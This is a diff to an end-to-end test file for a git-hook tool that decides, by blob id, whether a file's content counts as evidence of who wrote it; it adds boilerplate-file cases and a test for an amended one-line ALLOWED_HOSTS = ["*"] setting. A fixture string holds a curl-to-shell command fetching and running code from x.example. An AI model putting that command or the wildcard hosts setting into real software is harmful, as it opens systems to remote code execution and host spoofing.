@@ -1,9 +1,11 @@
 """A blob id alone does not tell who wrote a file (SPEC §3 "Attribution follows content",
 §8): the server and CI read a note's ``writes`` lines by (path, blob), and a person who
 types a common one-line file (a ``.gitignore`` holding ``__pycache__/``) gets the very blob
-id an unverified writer's note lists. Such content is nobody's evidence
-(:func:`~gentle_hooks.policy.wholefile.identifies_writer`); the writer's own content beside
-it, or a writer's file of one distinctive line, still is.
+id an unverified writer's note lists, and so does a person whose ``.gitattributes``,
+``setup.cfg`` or ``tox.ini`` comes from the template the writer's came from. Such content is
+nobody's evidence (:func:`~gentle_hooks.policy.wholefile.identifies_writer`); the writer's
+own content beside it, a writer's file of one distinctive line, or of one setting that
+opens a door (``ALLOWED_HOSTS = ["*"]``), still is.
 
 Each row through ``gentle-hook install``, real git, a bare remote with the server gate
 (``install --server``) and notes shared with it (``install --share origin``). The writer's
@@ -19,6 +21,21 @@ from tests.e2e.conftest import World
 from tests.e2e.server_rewrites import NEW, OFF, accepted_as_persons, ci_range_gate
 
 IGNORE = "__pycache__/\n"
+#: A person's files from the template the writer's came from (refuter r13u MED: settings,
+#: patterns, headings only; :mod:`gentle_hooks.policy.settingfile`).
+BOILERPLATE = {
+    "gitattributes": (".gitattributes", "* text=auto\n"),
+    "setup-cfg": (
+        "setup.cfg",
+        "[metadata]\nname = demo\nversion = 0.1.0\n\n[options]\npackages = find:\n",
+    ),
+    "tox-ini": (
+        "tox.ini",
+        "[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest\n",
+    ),
+}
+#: A writer's one-line setting that opens a door (row S2 of settingfile).
+HOSTS = 'ALLOWED_HOSTS = ["*"]\n'
 #: A writer's file of one distinctive line (row D2: a URL and a shell command).
 FETCH = 'import os\n\nos.system("curl https://x.example/i | sh")\n'
 
@@ -51,16 +68,28 @@ def _noted(w: World, files: dict[str, str]) -> str:
 
 
 def test_a_persons_common_one_line_file_with_a_writers_blob_passes(served: World) -> None:
-    w = served
-    first = _noted(w, {".gitignore": IGNORE, "src/app.py": NEW})
-    # another person, in a clone of their own, adds the same one-line .gitignore
+    _a_persons_copy_passes(served, ".gitignore", IGNORE)
+
+
+@pytest.mark.parametrize(("rel", "text"), BOILERPLATE.values(), ids=BOILERPLATE.keys())
+def test_a_persons_boilerplate_with_a_writers_blob_passes(
+    served: World, rel: str, text: str
+) -> None:
+    _a_persons_copy_passes(served, rel, text)
+
+
+def _a_persons_copy_passes(w: World, rel: str, text: str) -> None:
+    """The writer's noted commit holds ``rel`` (``text``) and its own ``src/app.py``;
+    another person, in a clone of their own, commits the same ``rel``: CI's range gate and
+    the server read it as the person's."""
+    first = _noted(w, {rel: text, "src/app.py": NEW})
     other = w.base / "other"
     w.ok("clone", "-q", str(w.remote), str(other), cwd=w.base)
-    w.write(".gitignore", IGNORE, cwd=other)
-    w.ok("add", ".gitignore", cwd=other)
-    w.ok("commit", "-q", "-m", "human: ignore caches", cwd=other)
+    w.write(rel, text, cwd=other)
+    w.ok("add", rel, cwd=other)
+    w.ok("commit", "-q", "-m", "human: boilerplate", cwd=other)
     mine = w.rev("HEAD", cwd=other)
-    assert w.rev(f"{mine}:.gitignore", cwd=other) == w.rev(f"{first}:.gitignore")
+    assert w.rev(f"{mine}:{rel}", cwd=other) == w.rev(f"{first}:{rel}")
     # CI: a clone with the notes and no ledger reads it as the person's
     w.ok("fetch", "-q", str(other), "main:refs/remotes/other/main")
     ci = ci_range_gate(w, mine)
@@ -109,3 +138,7 @@ def test_the_writers_commit_amended_is_still_rejected_by_its_own_content(
 
 def test_a_writers_one_distinctive_line_file_amended_is_still_rejected(served: World) -> None:
     _amended_is_rejected(served, {"src/fetch.py": FETCH}, "src/fetch.py")
+
+
+def test_a_writers_one_line_security_setting_amended_is_still_rejected(served: World) -> None:
+    _amended_is_rejected(served, {"site/settings.py": HOSTS}, "site/settings.py")
